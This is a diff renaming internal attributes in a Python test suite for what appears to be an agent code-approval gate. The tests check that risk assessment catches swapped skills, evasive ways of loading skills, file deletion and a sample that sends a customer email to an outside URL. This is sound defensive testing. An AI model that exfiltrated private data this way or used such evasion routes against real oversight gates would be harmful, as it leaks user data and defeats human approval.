@@ -25,13 +25,13 @@ def assess_all(code, tools, skills):
 
 
 def keep(core, name, code):
-    draft = core.rooms.library.draft(name, "A skill.", code, "", "you")
-    return core.rooms.library.keep(name, draft.sha, "you")
+    draft = core.services.library.draft(name, "A skill.", code, "", "you")
+    return core.services.library.keep(name, draft.sha, "you")
 
 
 async def test_what_a_skill_does_is_what_the_program_does(demo):
     kept = keep(demo, "greet", SENDER)
-    verdict = await demo.conveyor.assess(USES)
+    verdict = await demo.run_manager.assess(USES)
     assert verdict.gate is Gate.ASK
     assert verdict.risk is not Risk.LOW
     assert "The skill greet:" in verdict.sentence
@@ -43,18 +43,18 @@ async def test_what_a_skill_does_is_what_the_program_does(demo):
 
 async def test_an_approved_program_may_do_what_its_skill_does(demo):
     keep(demo, "greet", SENDER)
-    run = await waiting(demo, demo.conveyor.submit(USES, demo.rooms.sessions.open("agent")))
-    demo.conveyor.decide(Decision(run.id, run.proposal.sha, allow=True, by="you", seal=run.seal))
-    done = await demo.conveyor.finished(run.id)
+    run = await waiting(demo, demo.run_manager.submit(USES, demo.services.sessions.open("agent")))
+    demo.run_manager.decide(Decision(run.id, run.proposal.sha, allow=True, by="you", seal=run.seal))
+    done = await demo.run_manager.finished(run.id)
     assert done.state is RunState.DONE, done.fault
 
 
 async def test_a_skill_kept_anew_while_its_program_waits_is_noticed(demo):
     keep(demo, "greet", SENDER)
-    run = await waiting(demo, demo.conveyor.submit(USES, demo.rooms.sessions.open("agent")))
+    run = await waiting(demo, demo.run_manager.submit(USES, demo.services.sessions.open("agent")))
     keep(demo, "greet", SENDER.replace("Hi", "Something else"))
-    demo.conveyor.decide(Decision(run.id, run.proposal.sha, allow=True, by="you", seal=run.seal))
-    done = await demo.conveyor.finished(run.id)
+    demo.run_manager.decide(Decision(run.id, run.proposal.sha, allow=True, by="you", seal=run.seal))
+    done = await demo.run_manager.finished(run.id)
     assert done.state is RunState.FAILED
     assert "changed after this program was assessed" in done.fault.message
     assert done.calls == ()
@@ -75,7 +75,7 @@ async def test_a_harmless_skill_keeps_a_program_harmless(core):
     for program in ("from skills.double import double", "from skills import double", "load_skill('double')"):
         verdict = assess_all(program, (), (skill,))
         assert "skills.double" in verdict.definitions, program
-    assert (await core.conveyor.assess("from skills.double import double\nresult = double(2)")).gate is Gate.AUTO
+    assert (await core.run_manager.assess("from skills.double import double\nresult = double(2)")).gate is Gate.AUTO
 
 
 async def test_a_skill_that_is_gone_is_a_changed_skill(core):
@@ -88,7 +88,7 @@ async def test_a_skill_that_is_gone_is_a_changed_skill(core):
 
 async def test_only_a_program_that_was_judged_with_skills_is_held_against_them(demo):
     keep(demo, "greet", SENDER)
-    skills = demo.rooms.library.usable()
+    skills = demo.services.library.usable()
     assert borrows(assess_all(USES, demo.catalog.tools(), skills))
     assert not borrows(assess_all("result = 1", demo.catalog.tools(), skills))
     assert not borrows(None)
@@ -143,15 +143,15 @@ SPELLINGS = (
 async def test_no_spelling_has_a_skill_run_that_nobody_assessed(core):
     kept = keep(core, "tidy", TIDY)
     precious = core.paths.workspace / "precious.csv"
-    agent = core.rooms.sessions.open("agent")
+    agent = core.services.sessions.open("agent")
     for program in SPELLINGS:
         precious.write_text("a,b\n")
-        run = await waiting(core, core.conveyor.submit(program, agent))
+        run = await waiting(core, core.run_manager.submit(program, agent))
         assert run.verdict.risk in (Risk.HIGH, Risk.CRITICAL), program
         assert run.verdict.definitions["skills.tidy"] == kept.sha, program
         assert precious.exists(), program
-        core.conveyor.decide(Decision(run.id, run.proposal.sha, allow=True, by="you", seal=run.seal))
-        done = await core.conveyor.finished(run.id)
+        core.run_manager.decide(Decision(run.id, run.proposal.sha, allow=True, by="you", seal=run.seal))
+        done = await core.run_manager.finished(run.id)
         assert done.state is RunState.DONE, (program, done.fault)
         assert not precious.exists(), program
 
@@ -168,12 +168,12 @@ async def test_no_spelling_has_a_skill_run_that_nobody_assessed(core):
 )
 async def test_a_harmless_skill_asks_nobody_however_it_is_named(core, program):
     keep(core, "double", "def double(n):\n    return 2 * n\n")
-    assert (await core.conveyor.assess(program)).gate is Gate.AUTO
+    assert (await core.run_manager.assess(program)).gate is Gate.AUTO
 
 
 async def test_a_program_with_a_skill_that_is_not_kept_is_returned_to_its_author(core):
     code = "load_skill('tidy').tidy()"
-    done = await core.conveyor.finished(core.conveyor.submit(code, core.rooms.sessions.open("agent")).id)
+    done = await core.run_manager.finished(core.run_manager.submit(code, core.services.sessions.open("agent")).id)
     assert (done.state, done.started) == (RunState.REFUSED, 0)
     assert "Uses the skill tidy, which is not kept here" in done.fault.message
     assert "list_skills" in done.fault.hint
@@ -181,10 +181,10 @@ async def test_a_program_with_a_skill_that_is_not_kept_is_returned_to_its_author
 
 async def test_a_skill_that_is_kept_while_its_program_waits_is_noticed(core):
     code = "import os\nos.remove('workspace/a')\nload_skill('tidy').tidy()"
-    run = await waiting(core, core.conveyor.submit(code, core.rooms.sessions.open("agent")))
+    run = await waiting(core, core.run_manager.submit(code, core.services.sessions.open("agent")))
     keep(core, "tidy", TIDY)
-    core.conveyor.decide(Decision(run.id, run.proposal.sha, allow=True, by="you", seal=run.seal))
-    done = await core.conveyor.finished(run.id)
+    core.run_manager.decide(Decision(run.id, run.proposal.sha, allow=True, by="you", seal=run.seal))
+    done = await core.run_manager.finished(run.id)
     assert done.state is RunState.FAILED
     assert "changed after this program was assessed" in done.fault.message
 
@@ -211,10 +211,10 @@ READS = "from servers.demo import list_customers\nrows = (await list_customers(l
 
 async def test_private_data_and_a_skill_that_reaches_outside_ask_together(demo):
     keep(demo, "page", PAGES)
-    alone = await demo.conveyor.assess("from skills.page import page\nawait page('https://prices.example/paper')")
+    alone = await demo.run_manager.assess("from skills.page import page\nawait page('https://prices.example/paper')")
     assert (alone.risk, alone.gate, alone.may_carry) == (Risk.LOW, Gate.AUTO, ("demo.fetch_page",))
     code = READS + "import skills.page as p\nawait p.page('https://m.example/' + rows[0]['email'])"
-    verdict = await demo.conveyor.assess(code)
+    verdict = await demo.run_manager.assess(code)
     assert (verdict.risk, verdict.gate) == (Risk.HIGH, Gate.ASK)
     (found,) = [finding for finding in verdict.findings if finding.rule == "flow.unclear"]
     assert found.message.startswith("Whether data from demo.list_customers goes to demo.fetch_page cannot be read")
@@ -228,7 +228,7 @@ async def test_a_skill_that_reads_private_data_and_a_program_that_reaches_outsid
     )
     calls = "r = await rows()\nawait fetch_page(url=str(r))"
     code = f"from skills.rows import rows\nfrom servers.demo import fetch_page\n{calls}"
-    verdict = await demo.conveyor.assess(code)
+    verdict = await demo.run_manager.assess(code)
     assert (verdict.risk, verdict.gate) == (Risk.HIGH, Gate.ASK)
 
 
@@ -236,13 +236,15 @@ async def test_a_program_sees_no_skill_that_was_not_assessed_with_it(core):
     """Whatever reading misses: there is nothing to load."""
     keep(core, "tidy", TIDY)
     keep(core, "double", "def double(n):\n    return 2 * n\n")
-    agent = core.rooms.sessions.open("agent")
-    done = await core.conveyor.finished(core.conveyor.submit("import os\nresult = os.listdir('skills')", agent).id)
+    agent = core.services.sessions.open("agent")
+    done = await core.run_manager.finished(
+        core.run_manager.submit("import os\nresult = os.listdir('skills')", agent).id
+    )
     assert (done.state, done.result) == (RunState.DONE, "[]"), done.fault
     asked = "import client\nresult = client.get_client()._line.ask_now('skill', name='tidy')"
-    done = await core.conveyor.finished(core.conveyor.submit(asked, agent).id)
+    done = await core.run_manager.finished(core.run_manager.submit(asked, agent).id)
     assert done.state is RunState.FAILED
     assert "was not assessed with the skill tidy" in done.fault.message
     used = "from skills.double import double\nresult = double(2)"
-    done = await core.conveyor.finished(core.conveyor.submit(used, agent).id)
+    done = await core.run_manager.finished(core.run_manager.submit(used, agent).id)
     assert (done.state, done.result) == (RunState.DONE, "4"), done.fault
